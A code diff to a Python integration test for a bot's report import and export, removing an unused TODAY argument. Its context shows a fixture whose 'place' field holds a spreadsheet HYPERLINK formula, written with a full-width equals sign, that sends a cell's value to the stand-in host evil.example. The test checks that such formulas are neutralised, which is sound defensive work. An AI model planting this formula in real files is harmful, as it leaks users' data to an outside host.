@@ -22,7 +22,7 @@ from bot.reports_io import (
     import_reports,
 )
 from models.queries import ensure_user
-from tests.integration.training_reports import NOW, TODAY, store_trainings
+from tests.integration.training_reports import NOW, store_trainings
 
 FULL_WIDTH = {
     "place": '＝HYPERLINK("http://evil.example/?"&A1,"Jacmel")',
@@ -60,5 +60,5 @@ async def test_full_width_formula_signs_are_neutralised_and_import_back_unchange
 
     async with session_factory() as session:
         author = await ensure_user(session, 5550001, "Officer", "en")
-        again = await import_reports(session, path, author_user_id=author.id, today=TODAY, now=NOW)
+        again = await import_reports(session, path, author_user_id=author.id, now=NOW)
     assert again == ImportResult(created=0, unchanged=2, errors=[])  # the same text came back
